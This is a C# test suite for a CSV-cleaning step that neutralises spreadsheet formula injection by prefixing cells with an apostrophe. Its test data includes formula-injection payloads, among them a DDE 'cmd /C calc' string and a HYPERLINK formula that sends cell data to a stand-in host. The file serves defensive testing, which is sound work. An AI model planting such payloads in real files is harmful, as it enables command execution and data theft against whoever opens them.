using System.Text;
using OrleansClean.Cleaning.Steps;
using OrleansClean.Cleaning.Tests.Evidence;
using Xunit.Abstractions;
using static OrleansClean.Cleaning.Tests.StepByStep.StepWords;
using EvidenceRun = OrleansClean.Cleaning.Tests.Evidence.CleaningRun;

namespace OrleansClean.Cleaning.Tests.StepByStep;

public sealed class GuardTests(ITestOutputHelper output)
{
    /// <summary>One row proves no dialect: it is pinned.</summary>
    private static readonly PlannedSteps Guarded = With("- guard: formulas", read: "{delimiter: comma, quote: '\"', header: 1}");

    /// <summary>Cells and what becomes of them; a cell that is a formula gets one <c>'</c> for each place where one begins.</summary>
    public static TheoryData<string, string> Golden => new()
    {
        { "=1+1", "'=1+1" },
        { "=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0" },
        { "=HYPERLINK(\"http://x.example?\"&A1)", "'=HYPERLINK(\"http://x.example?\"&A1)" },
        { "+1+cmd", "'+1+cmd" },
        { "-1+cmd", "'-1+cmd" },
        { "@SUM(A1)", "'@SUM(A1)" },
        { "\t=1", "'\t'=1" },
        { "\tx", "'\tx" },
        { "\r=1", "'\r=1" },
        { "\n=1", "'\n=1" },
        { " =1", "' =1" },
        { "\u00a0=1", "'\u00a0=1" },
        { "\uFEFF=1", "'\uFEFF=1" },
        { "\u200b=1", "'\u200b=1" },
        { "\u202e=1", "'\u202e=1" },
        { "\u0001=1", "'\u0001=1" },
        { "\"=1\"", "'\"=1\"" },
        { "＝1+1", "'＝1+1" },
        { "＋1", "'＋1" },
        { "－1", "'－1" },
        { "＠x", "'＠x" },
        { "﹦1", "'﹦1" },
        { "+49 30 1234", "'+49 30 1234" },
        { "-x", "'-x" },
        { "--", "'--" },
        { "-5-3", "'-5-3" },
        { "-4 %", "'-4 %" },
        { "-.,", "'-.," },
        { "-1e", "'-1e" },
        { "-1e5x", "'-1e5x" },
        { "-e5", "'-e5" },
        { "=5", "'=5" },
        { "=-5", "'=-5" },
        { "a;=1", "a;'=1" },
        { "a;b;-x;;@y", "a;b;'-x;;'@y" },
        { "a\t=1", "a\t'=1" },
        { "=1;=2", "'=1;'=2" },
        { ";=1", ";'=1" },
        { "a;=1;", "a;'=1;" },
    };

    [Theory]
    [MemberData(nameof(Golden))]
    public void A_formula_is_made_text_by_a_mark_in_front_of_it(string cell, string neutral)
    {
        Guarded.Over($"a,b\n{Field(cell)},1\n").Gives($"a,b\n{Field(neutral)},1\n").Changing("guard", 1);

        Guarded.Over($"a,b\n{Field(neutral)},1\n").Gives($"a,b\n{Field(neutral)},1\n").Changing("guard", 0);
    }

    [Theory]
    [InlineData("-5")]
    [InlineData("+49")]
    [InlineData("-0.5")]
    [InlineData("-.5")]
    [InlineData("-1,5")]
    [InlineData("-1.234,56")]
    [InlineData("-12.50")]
    [InlineData("-3e-7")]
    [InlineData("+1E+9")]
    [InlineData("-1e999")]
    [InlineData("-4%")]
    [InlineData(" -5 ")]
    [InlineData("\t-5")]
    [InlineData("a;-5")]
    [InlineData("-")]
    [InlineData("+")]
    [InlineData("=")]
    [InlineData(" - ")]
    [InlineData("\t")]
    [InlineData("\r\n")]
    [InlineData("")]
    [InlineData("'=1")]
    [InlineData("a=1")]
    [InlineData("a@b.example")]
    [InlineData("1-2")]
    [InlineData("2026-01-31")]
    [InlineData("00501")]
    [InlineData("−5")] // U+2212 is no operator.
    [InlineData("first line\n- second line")]
    public void A_number_and_harmless_text_keep_their_bytes(string cell) =>
        Guarded.Over($"a,b\n{Field(cell)},1\n").Gives($"a,b\n{Field(cell)},1\n").Changing("guard", 0);

    [Fact]
    public void Names_of_columns_are_guarded_and_told()
    {
        var outcome = With("- guard: formulas").Over("=cmd,b,-5,@x\n1,2,3,4\n").Gives("'=cmd,b,-5,'@x\n1,2,3,4\n").Changing("guard", 0);

        Assert.Equal(["=cmd → '=cmd", "@x → '@x"], outcome.Report.Renamed.Select(column => $"{column.From} → {column.To}"));
    }

    [Fact]
    public void Some_columns_may_be_guarded_and_others_not() =>
        With("- guard: {formulas: neutralise, columns: [b]}").Over("=a,b\n=1,=2\n").Gives("=a,b\n=1,'=2\n").Changing("guard", 1);

    [Fact]
    public void Rows_may_be_rejected_instead() =>
        With("- guard: {formulas: reject}").Over("a,b\nx,-5\nx,=2\n@,+\n").Gives("a,b\nx,-5\n@,+\n")
            .Rejecting("3 constraint-error b").Expecting("text that is no formula").Saying("guard: formulas");

    [Theory]
    [InlineData("null", "a,b\n,1\n")]
    [InlineData("keep", "a,b\n=1,1\n")]
    public void A_cell_that_is_not_let_through_may_be_emptied_or_kept(string onError, string expected) =>
        With($"- guard: {{formulas: reject}}\n  on_error: {onError}").Over("a,b\n=1,1\n").Gives(expected);

    [Fact]
    public void A_name_that_is_not_let_through_costs_the_file() =>
        With("- guard: {formulas: reject}").Over("a,=b\n1,2\n").Fails("constraint-error", "'=b'", "Step guard");

    [Fact]
    public void A_row_may_be_left_out_by_a_condition() =>
        With("- guard: formulas\n  when: b = 'x'").Over("a,b\n=1,x\n=2,y\n").Gives("a,b\n'=1,x\n=2,y\n").Changing("guard", 1);

    [Fact]
    public void A_typed_column_stays_typed_and_its_numbers_untouched() =>
        With("- parse: {a: integer}\n- guard: formulas\n- filter: a is null or a < 0", read: "{nulls: [=NA]}").Over("a,b\n-5,1\n=NA,2\n7,3\n")
            .Gives("a,b\n-5,1\n'=NA,2\n").Changing("guard", 1);

    [Fact]
    public void What_the_plan_computes_is_guarded_like_what_the_file_holds() =>
        With("- derive:\n    c: concat('=', a)\n    d: 0 - 1.5\n- guard: formulas").Over("a,b\n1,2\n").Gives("a,b,c,d\n1,2,'=1,-1.5\n").Changing("guard", 1);

    [Fact]
    public void A_column_that_is_not_there_may_be_skipped() =>
        With("- guard: {formulas: neutralise, columns: [x, b]}\n  if_missing: skip").Over("a,b\n=1,=2\n").Gives("a,b\n=1,'=2\n");

    [Fact]
    public void A_mebibyte_of_formulas_in_a_cell_is_neutralised_once_each()
    {
        var cell = string.Concat(Enumerable.Repeat("=a;", 300_000));

        Guarded.Over($"a,b\n{cell},1\n").Gives($"a,b\n{cell.Replace("=", "'=", StringComparison.Ordinal)},1\n").Changing("guard", 1);
    }

    [Fact]
    public void Twice_is_once_and_nothing_but_marks_is_put_in() => Seeds.ForEach(output, 20_000, 12, (seed, length) =>
    {
        const string alphabet = "=+-@\t\r\n;,'\" 05.eE%aé＝－\uFEFF\u200b";
        var random = new Random(seed);
        var text = string.Concat(Enumerable.Range(0, length).Select(_ => alphabet[random.Next(alphabet.Length)]));

        var once = SpreadsheetText.Neutralise(text);

        Assert.Equal(once, SpreadsheetText.Neutralise(once));
        Assert.Equal(0, SpreadsheetText.CountMarks(Encoding.UTF8.GetBytes(once)));
        Assert.Equal(once.Length - text.Length, SpreadsheetText.CountMarks(Encoding.UTF8.GetBytes(text)));
        Assert.Equal(text.Replace("'", "", StringComparison.Ordinal), once.Replace("'", "", StringComparison.Ordinal));
        Assert.All(once.Split(';', '\t').Select(part => part.TrimStart(' ', '"', '\r', '\n', '\uFEFF', '\u200b')), part =>
            Assert.False(part.Length > 1 && part[0] == '=' && part[1..].Trim().Length > 0, once));
    });

    [Theory]
    [InlineData("- derive: {c: a}", "derive")]
    [InlineData("- rename: {a: c}", "rename")]
    [InlineData("- fill: {a: x}", "fill")]
    [InlineData("- trim: all", "trim")]
    public void Nothing_may_be_written_behind_a_guard(string step, string verb)
    {
        var problems = PlanTexts.PlanText.StepProblems($"- guard: formulas\n{step}");

        Assert.Contains($"`{verb}` comes after `guard`", problems, StringComparison.Ordinal);
    }

    [Fact]
    public void Rows_and_columns_may_be_chosen_behind_a_guard() => Assert.Equal(8, PlanTexts.PlanText.Steps(
        "- guard: formulas\n- drop_empty: rows\n- select: [a]\n- drop: [b]\n- filter: a > 1\n- dedupe: all\n- check: a > 1\n- guard: {formulas: reject}\n  id: again").Count);

    [Fact]
    public void The_input_s_name_in_a_combined_output_is_guarded_too()
    {
        var run = EvidenceRun.Of(
            "plan: 1\nname: p\nsteps:\n  - guard: formulas\nwrite: {to: all.csv, combine: true, file_column: true}\n", "a\n=1\n"u8.ToArray(), name: "=x.csv");

        Assert.Equal("_file,a\n'=x.csv,'=1\n", Encoding.UTF8.GetString(run.Outputs.Output));
    }

    private static string Field(string cell) =>
        cell.AsSpan().ContainsAny(",\"\r\n") || cell.StartsWith(' ') || cell.EndsWith(' ')
            ? $"\"{cell.Replace("\"", "\"\"", StringComparison.Ordinal)}\""
            : cell;
}
